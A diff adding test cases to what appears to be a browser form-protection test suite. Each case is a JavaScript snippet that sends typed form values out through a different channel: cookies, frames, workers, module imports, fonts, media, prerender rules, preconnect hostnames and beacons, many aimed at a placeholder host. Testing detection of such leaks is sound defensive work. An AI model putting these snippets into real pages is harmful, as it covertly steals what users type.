@@ -263,6 +263,122 @@ frame.onload = () => frame.contentWindow.postMessage(json(), '*'); on('input', (
         "a request with a clean address carries the values in a header",
         "on('change', () => fetch('pixel.gif', { headers: { 'X-Draft': base64(json()) } }));",
     ),
+    // By other doors of the same house
+    on_fill(
+        "cookie-store",
+        "the asynchronous way to write the cookie",
+        "on('change', async () => { await cookieStore.set('draft', base64(json())); fetch('pixel.gif?' + Math.random()); });",
+    ),
+    on_fill(
+        "cookie-behind-the-back",
+        "a cookie is written again and again while clean requests are on their way",
+        "const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
+const set = Object.getOwnPropertyDescriptor(frame.Document.prototype, 'cookie').set;
+on('change', () => { const text = 'behind=' + hex(json()) + '; path=/'; for (let n = 0; n < 40; n++) setTimeout(() => {
+  set.call(document, 'behind=; path=/; max-age=0'); fetch('pixel.gif?' + Math.random()); set.call(document, text); }, n * 5); });",
+    ),
+    on_fill(
+        "download-from-frame",
+        "a download link in a frame that never had a document carries the values",
+        "const inner = document.body.appendChild(document.createElement('iframe')).contentDocument;
+on('change', () => { const link = inner.body.appendChild(inner.createElement('a')); link.download = ''; link.href = new URL('terms.txt?' + query(), location); link.dispatchEvent(new MouseEvent('click')); });",
+    ),
+    on_fill(
+        "alt-click",
+        "a link is clicked as one does to save what it leads to",
+        "const link = document.body.appendChild(document.createElement('a'));
+on('change', () => { link.href = 'terms.txt?' + query(); link.dispatchEvent(new MouseEvent('click', { altKey: true, bubbles: true, cancelable: true })); });",
+    ),
+    on_fill(
+        "preconnect",
+        "a connection is opened in advance to a host named after the value",
+        "on('input', f => document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: ELSEWHERE.replace('http://', 'https://' + f.value.replace(/[^a-z0-9]/gi, '-').replace(/^-+|-+$/g, '') + '.preconnect.') })));",
+    ),
+    on_fill(
+        "prerender",
+        "a speculation rule prerenders a whole page at an address with the values",
+        "on('change', () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prerender: [{ urls: ['speculated?' + query()], eagerness: 'immediate' }] }); document.head.append(s); });",
+    ),
+    on_fill(
+        "reporting",
+        "a report to a named endpoint tells an address with the values",
+        "on('change', () => { history.replaceState(null, '', '?' + query()); new Image().src = 'http://blocked.localhost/'; });",
+    ),
+    on_fill(
+        "frame-address",
+        "a frame's address carries the values",
+        "const frame = document.body.appendChild(document.createElement('iframe')); on('input', () => { frame.src = ELSEWHERE + '/frame.html?' + query(); });",
+    ),
+    on_fill(
+        "frame-of-text",
+        "a frame made of text posts what it was made with",
+        "on('input', () => document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>fetch(' + JSON.stringify(new URL('draft', location).href) + ', { method: \"POST\", body: atob(\"' + base64(json()) + '\") })<\\/script>' })));",
+    ),
+    on_fill(
+        "frame-removed",
+        "a frame sends a beacon when it is taken away",
+        "on('change', () => { const frame = document.body.appendChild(document.createElement('iframe')), text = json(); frame.contentWindow.addEventListener('pagehide', () => frame.contentWindow.navigator.sendBeacon(new URL('draft', location), text)); frame.remove(); });",
+    ),
+    on_fill(
+        "sandboxed-frame",
+        "a form in a sandboxed frame posts the values",
+        "on('input', () => { const frame = document.createElement('iframe'); frame.sandbox = 'allow-scripts allow-forms'; frame.srcdoc = '<form method=post action=\"' + ELSEWHERE + '/collect\"><input name=d value=\"' + hex(json()) + '\"></form><script>document.forms[0].submit()<\\/script>'; document.body.append(frame); });",
+    ),
+    on_fill(
+        "text-worker",
+        "a worker made of text posts what it is told",
+        "const worker = new Worker(URL.createObjectURL(new Blob(['onmessage = e => fetch(e.data[0], { method: \"POST\", body: e.data[1] })']))); on('input', () => worker.postMessage([new URL('draft', location).href, json()]));",
+    ),
+    on_fill(
+        "imported-script",
+        "a worker imports a script whose address carries the values",
+        "on('change', () => new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(ELSEWHERE + '/lib.js?' + query()) + ')']))));",
+    ),
+    on_fill(
+        "module",
+        "a module's address carries the values",
+        "on('change', () => import(ELSEWHERE + '/lib.js?' + query()));",
+    ),
+    on_fill(
+        "worklet",
+        "an audio worklet's module has an address with the values",
+        "const audio = new OfflineAudioContext(1, 128, 44100); on('change', () => audio.audioWorklet.addModule(ELSEWHERE + '/lib.js?' + query()));",
+    ),
+    on_fill(
+        "font",
+        "a font's address carries the values",
+        "on('input', () => new FontFace('x', 'url(' + JSON.stringify(ELSEWHERE + '/font?' + query()) + ')').load().catch(() => {}));",
+    ),
+    on_fill(
+        "media",
+        "a sound's address carries the values",
+        "on('input', () => { new Audio(ELSEWHERE + '/sound?' + query()).load(); });",
+    ),
+    on_fill(
+        "object",
+        "an embedded object's address carries the values",
+        "on('input', () => document.body.append(Object.assign(document.createElement('object'), { data: ELSEWHERE + '/object?' + query() })));",
+    ),
+    on_fill(
+        "vector-image",
+        "a shape used from another drawing whose address carries the values",
+        "on('input', () => { const s = document.body.appendChild(document.createElement('div')); s.innerHTML = '<svg><image href=\"' + ELSEWHERE + '/pixel.gif?' + encodeURIComponent(query()) + '\"/></svg>'; });",
+    ),
+    on_fill(
+        "icon",
+        "the page's icon gets an address with the values",
+        "on('change', () => document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: 'pixel.gif?' + query() })));",
+    ),
+    on_fill(
+        "xhr-sync",
+        "a synchronous request posts while the page stands still",
+        "on('change', () => { const x = new XMLHttpRequest(); x.open('POST', 'draft', false); try { x.send(json()); } catch {} });",
+    ),
+    on_fill(
+        "stream-body",
+        "a request whose body is made while it is sent",
+        "on('change', () => { const text = json(); fetch(ELSEWHERE.replace('http:', 'https:') + '/collect', { method: 'POST', duplex: 'half', body: new Blob([text]).stream() }).catch(() => fetch('draft', { method: 'POST', body: new Blob([text]) })); });",
+    ),
     // By going somewhere else
     on_fill(
         "window-open",
